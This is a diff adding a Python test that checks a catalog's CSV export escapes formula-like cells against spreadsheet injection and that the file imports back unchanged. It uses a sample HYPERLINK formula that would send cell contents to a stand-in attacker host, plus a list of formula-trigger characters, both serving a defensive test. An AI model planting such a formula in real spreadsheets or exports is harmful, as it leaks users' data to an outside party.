@@ -453,5 +453,49 @@ class CatalogAdmin(CatalogBase):
         _, doc = self.get("/api/v1/bundles")
         self.assertEqual([b["code"] for b in doc["items"]], [b["code"] for b in before["bundles"]])
 
+    def test_csv_export_keeps_formula_like_text_as_text_and_imports_back_unchanged(self):
+        # Text a catalog admin types is opened by others from the CSV download:
+        # a cell a spreadsheet would run as a formula gets a leading ', as the
+        # stats downloads do, and the import takes it off again.
+        code = "1.013703"
+        old = self.procedure(code)
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+        edited = copy.deepcopy(old)
+        edited["name"] = formula
+        edited["competent_agency"] = "@SUM(1+1) Ủy ban nhân dân cấp xã"
+        edited["result"] = "'=already quoted"  # a ' before a formula already: one more
+        edited["steps"] = ["-1+1 nộp hồ sơ"] + old["steps"][1:]  # a JSON cell: starts with [
+        status, _, body = self.admin("PUT", "/api/v1/procedures/" + code, edited)
+        self.assertEqual(status, 200, body)
+        try:
+            status, _, data = self.admin("GET", q("/api/v1/procedures/export", format="csv"))
+            self.assertEqual(status, 200, data)
+            text = data.decode("utf-8")
+            cell = ',"\'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",'
+            self.assertTrue(cell in text, "the name is not in the download as " + cell)
+            rows = list(csv.DictReader(io.StringIO(text, newline="")))
+            row = next(r for r in rows if r["code"] == code)
+            self.assertEqual(row["name"], "'" + formula)
+            self.assertEqual(row["competent_agency"], "'" + edited["competent_agency"])
+            self.assertEqual(row["result"], "''=already quoted")
+            self.assertEqual(json.loads(row["steps"])[0], "-1+1 nộp hồ sơ")
+            for r in rows:
+                for column, cell in r.items():
+                    self.assertNotIn(cell[:1], ("=", "+", "-", "@", "\t", "\r"), (r["code"], column))
+            # The download imported back is the catalog as it was, the edited
+            # procedure's text included.
+            before = self.export_json()
+            report = self.import_in_parts(rows, as_csv=True)
+            self.assertEqual(report, {"created": 0, "updated": 0, "unchanged": len(rows)})
+            self.assertEqual(self.export_json(), before)
+            now = self.procedure(code)
+            for key in ("name", "competent_agency", "result", "steps"):
+                self.assertEqual(now[key], edited[key], key)
+        finally:
+            # PostgreSQL runs share one database: the procedure as it was.
+            status, _, body = self.admin("PUT", "/api/v1/procedures/" + code, old)
+            self.assertEqual(status, 200, body)
+
+
 if __name__ == "__main__":
     harness.run_suites([Catalog, CatalogAdmin])
